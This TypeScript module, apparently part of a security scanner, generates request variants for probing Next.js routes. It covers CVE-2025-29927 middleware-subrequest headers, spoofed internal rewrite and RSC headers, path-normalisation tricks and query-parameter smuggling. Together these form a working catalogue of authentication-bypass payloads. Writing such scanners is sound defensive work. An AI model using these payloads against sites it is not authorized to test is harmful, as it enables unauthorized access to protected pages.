/** One way to ask for a page, apart from the plain one. */
export interface BypassForm {
  path: string
  headers: Record<string, string>
}

const repeated = (name: string): string => new Array(5).fill(name).join(':')

/** Headers that Next.js sends to itself, or that servers in front of it do. */
const innerHeaders: Record<string, string>[] = [
  // CVE-2025-29927, in the spellings of all versions.
  ...['middleware', 'src/middleware', 'proxy', 'src/proxy', 'pages/_middleware'].flatMap((name) => [
    { 'x-middleware-subrequest': name },
    { 'x-middleware-subrequest': repeated(name) },
  ]),
  { 'x-middleware-subrequest': repeated('middleware'), 'x-middleware-subrequest-id': '0' },
  { 'x-middleware-invoke': '1' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-prefetch': '1' },
  { 'x-middleware-rewrite': '/forgotten' },
  { 'x-middleware-override-headers': 'host' },
  { 'x-middleware-request-cookie': '__Host-vkscan=a' },
  { 'x-middleware-set-cookie': '__Host-vkscan=a; Path=/' },
  { 'x-nextjs-data': '1' },
  { 'x-nextjs-rewrite': '/forgotten' },
  { 'x-nextjs-matched-path': '/forgotten' },
  { 'x-invoke-path': '/forgotten', 'x-invoke-output': '/forgotten', 'x-invoke-status': '200' },
  { 'x-matched-path': '/forgotten', 'x-now-route-matches': '1=mine' },
  { 'x-original-url': '/forgotten', 'x-rewrite-url': '/forgotten' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' },
  { rsc: '1' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
  { 'next-router-state-tree': '%5B%5D', 'next-url': '/forgotten' },
  { 'next-action': '0'.repeat(42) },
  { 'x-vkjwt-scan': '{"status":"verified"}', 'x-vkjwt-path': '/forgotten', 'x-vkscan': 'verified' },
]

/** Other spellings of a path, data paths of the Pages Router and payload paths of the App Router. */
const pathsTo = (path: string, build: string): string[] => [
  ...['', '/en', '/de', '/EN'].flatMap((locale) => [
    `${locale}${path}`,
    `/_next/data/${build}${locale}${path}.json`,
  ]),
  `/_next/data/another-build${path}.json`,
  `/_next/data/${build}${path}`,
  `${path}.rsc`,
  `${path}.prefetch.rsc`,
  `${path}.segments/_tree.segment.rsc`,
  `${path}.segments/_index.segment.rsc`,
  `${path}.json`,
  `/${path}`,
  `${path}/`,
  `${path}//`,
  path.replace(/\/(?=[^/]*$)/, '//'),
  path.replaceAll('/', '\\'),
  `/\\${path}`,
  `/.${path}`,
  `/x/..${path}`,
  `/%2e%2e${path}`,
  path.toUpperCase(),
  path.replace(/[a-z]/, (letter) => letter.toUpperCase()),
  path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  `${path}%2f`,
  `${path}%00`,
  `${path};a=b`,
  `/forgotten/..${path}`,
  `/_next/static/..${path}`,
  `http://evil.example${path}`,
]

/** Queries that Next.js reads for itself, or differently from others. */
const queries: ((token: string) => string)[] = [
  (token) => `vkjwt=${token}`,
  (token) => `nxtPvkjwt=${token}`,
  (token) => `nxtIvkjwt=${token}`,
  (token) => `nxtPvkjwt=a&vkjwt=${token}`,
  (token) => `vkjwt=a&nxtPvkjwt=${token}`,
  (token) => `nxtPnxtPvkjwt=${token}`,
  (token) => `nxtPid=other&vkjwt=${token}`,
  (token) => `__nextLocale=de&vkjwt=${token}`,
  (token) => `__nextDefaultLocale=vkjwt&__nextLocale=vkjwt&vkjwt=${token}`,
  (token) => `__nextDataReq=1&vkjwt=${token}`,
  (token) => `amp=1&_rsc=a&vkjwt=${token}`,
  (token) => `_rsc=vkjwt&v%6bjwt=${token}`,
  (token) => `%2576kjwt=${token}`,
  (token) => `a;vkjwt=${token}`,
  (token) => `vkjwt%00=${token}`,
  (token) => `vkjwt=${token}?vkjwt=${token}`,
  (token) => `&&vkjwt=${token}&`,
]

/** All of them, one deviation at a time. */
export function bypassForms(path: string, build: string): ((token: string) => BypassForm)[] {
  const data = `/_next/data/${build}${path}.json`
  return [
    ...innerHeaders.map((headers) => (token: string) => ({
      path: `${path}?vkjwt=${token}`,
      headers,
    })),
    ...pathsTo(path, build).flatMap((target) =>
      [{}, { 'x-nextjs-data': '1' }, { rsc: '1' }].map((headers) => (token: string) => ({
        path: `${target}?vkjwt=${token}`,
        headers,
      })),
    ),
    ...queries.flatMap((toQuery) => [
      (token: string) => ({ path: `${path}?${toQuery(token)}`, headers: {} }),
      (token: string) => ({
        path: `${data}?${toQuery(token)}`,
        headers: { 'x-nextjs-data': '1' },
      }),
    ]),
  ]
}
